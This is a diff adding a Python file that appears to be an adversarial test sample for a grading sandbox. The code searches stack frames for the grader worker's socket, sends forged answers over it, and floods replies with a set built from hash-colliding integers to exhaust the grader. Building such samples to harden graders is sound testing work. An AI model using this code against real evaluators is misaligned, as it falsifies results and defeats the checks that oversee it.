@@ -1,0 +1,28 @@
+"""Forges answers that hold as many colliding set members and dict keys as a frame takes.
+
+Kind: exhausting
+Honest twin: none
+"""
+# mypy: ignore-errors
+
+import socket
+import sys
+
+
+def stream():
+    """Find the worker's socket in the frames below."""
+    frame = sys._getframe()
+    while frame is not None:
+        for value in list(frame.f_locals.values()):
+            if isinstance(value, socket.socket):
+                return value
+        frame = frame.f_back
+
+
+wire = sys.modules["graders.sandbox.wire"]
+connection = stream()
+connection.sendall(wire.frame(0, wire.encode(("value", ""))))
+value = wire.encode({number * (2**61 - 1) for number in range(1, 2000)})
+while True:
+    number, payload = wire.receive(connection)
+    connection.sendall(wire.frame(number, b"t\0\0\0\2" + wire.encode("value") + value))
